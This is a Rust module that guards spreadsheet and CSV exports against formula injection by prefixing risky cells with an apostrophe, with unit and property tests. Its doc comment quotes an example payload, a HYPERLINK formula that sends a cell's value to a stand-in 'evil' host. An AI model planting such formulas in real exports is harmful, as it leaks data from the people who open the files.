//! Text cells of the spreadsheets and CSV files we write, made safe for spreadsheet programs.
//!
//! Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and
//! tab or CR, which some of them skip first) as a formula, so a name like
//! `=HYPERLINK("http://evil/?"&A1)` in an export would run on the admin's machine ("CSV
//! injection"). Every text cell we write goes through [`neutralise`], which puts a `'` in
//! front of such a cell (the programs' own "this is text" mark); [`restore`] takes it off again
//! when we read a file, so our own exports import back unchanged.

use std::borrow::Cow;

/// The first characters that make a spreadsheet program read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell starting like `text` needs the mark: a formula start, or a `'` (so that
/// [`restore`] can tell our mark from one that was already there).
fn needs_mark(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS) || text.starts_with('\'')
}

/// `text` as a cell that no spreadsheet program runs: prefixed with `'` when it starts with
/// `=`, `+`, `-`, `@`, tab, CR (or `'`), otherwise unchanged.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if needs_mark(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text of a cell read from a file: a `'` that [`neutralise`] put in front is taken off.
/// A `'` before anything else is the text itself.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_mark(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn formula_starts_get_a_mark_and_plain_text_does_not() {
        for (text, cell) in [
            ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
            ("+1", "'+1"),
            ("-", "'-"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=1", "''=1"),
            ("张三", "张三"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(neutralise(text), cell, "{text:?}");
            assert_eq!(restore(cell), text, "{cell:?}");
        }
        // A mark typed by a person before plain text is their text.
        assert_eq!(restore("'abc"), "'abc");
    }

    proptest! {
        #[test]
        fn neutralised_cells_never_start_a_formula_and_restore_exactly(text in "\\PC{0,12}|[=+\\-@'\t\r]\\PC{0,6}") {
            let cell = neutralise(&text);
            prop_assert!(!cell.starts_with(FORMULA_STARTS));
            prop_assert_eq!(restore(&cell), text.as_str());
        }
    }
}
